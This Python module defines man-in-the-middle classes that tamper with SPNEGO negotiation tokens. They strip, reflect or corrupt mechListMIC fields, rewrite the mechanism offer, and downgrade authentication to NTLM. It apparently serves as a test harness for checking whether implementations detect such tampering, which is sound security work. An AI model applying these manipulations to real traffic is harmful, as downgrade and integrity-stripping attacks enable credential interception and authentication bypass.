"""What a man in the middle does to the tokens of a negotiation."""

import der

NEGOEX = bytes.fromhex("060a2b06010401823702021e")
MS_KRB5 = bytes.fromhex("06092a864882f712010202")


class Attack:
    """Passes everything on; the attacks below change what they name."""

    # What becomes of the offer, or None to leave it alone.
    offer = None

    def outgoing(self, token):
        if not der.is_spnego(token):
            return token
        fields = der.read_token(token)
        if not der.is_init(token):
            self.resp(fields)
            return der.write_resp(fields)
        if self.offer is not None:
            fields[der.MECH_TYPES] = der.mech_types(*self.offer)
        self.init(fields)
        return der.write_init(fields)

    def incoming(self, token):
        if not der.is_spnego(token):
            return token
        fields = der.read_token(token)
        self.reply(fields)
        return der.write_resp(fields)

    def init(self, fields):
        """Edits the client's offer."""

    def resp(self, fields):
        """Edits a later token of the client."""

    def reply(self, fields):
        """Edits a token of the server."""


class WithoutOurMic(Attack):
    """The server's MIC never arrives, so that the client's own has to tell."""

    def reply(self, fields):
        fields.pop(der.MECH_LIST_MIC, None)


class StripClientMic(Attack):
    def resp(self, fields):
        fields.pop(der.MECH_LIST_MIC, None)


class StripRequestMic(Attack):
    """The client is told that no MIC is needed."""

    def reply(self, fields):
        if der.neg_state(fields) == "request-mic":
            fields[der.NEG_STATE] = bytes.fromhex("0a0101")


class ReflectMic(Attack):
    """The client's MIC is replaced by the server's own."""

    def reply(self, fields):
        self.mic = fields.get(der.MECH_LIST_MIC)

    def resp(self, fields):
        if der.MECH_LIST_MIC in fields:
            fields[der.MECH_LIST_MIC] = self.mic


class AlterMic(Attack):
    def resp(self, fields):
        if mic := fields.get(der.MECH_LIST_MIC):
            fields[der.MECH_LIST_MIC] = mic[:-1] + bytes([mic[-1] ^ 1])


class Add(Attack):
    offer = (der.NTLM, der.KRB5, NEGOEX)


class AddWithoutOurMic(WithoutOurMic):
    offer = Add.offer


class Rename(WithoutOurMic):
    """Kerberos goes by the name that Windows has for it."""

    offer = (der.NTLM, MS_KRB5)


class Drop(WithoutOurMic):
    """What the client likes best is gone, with the token for it."""

    offer = (der.KRB5,)

    def init(self, fields):
        del fields[der.MECH_TOKEN]


class Swap(Drop):
    offer = (der.KRB5, der.NTLM)


class DropToken(Attack):
    """The list is whole and the optimistic token is gone, which changes nothing."""

    def init(self, fields):
        del fields[der.MECH_TOKEN]


class Downgrade(Attack):
    """Only the weaker mechanism is left."""

    offer = (der.NTLM,)


ATTACKS = {
    "none": Attack,
    "without-our-mic": WithoutOurMic,
    "strip-client-mic": StripClientMic,
    "strip-request-mic": StripRequestMic,
    "reflect-mic": ReflectMic,
    "alter-mic": AlterMic,
    "add": Add,
    "add-without-our-mic": AddWithoutOurMic,
    "rename": Rename,
    "drop": Drop,
    "swap": Swap,
    "drop-token": DropToken,
    "downgrade": Downgrade,
}
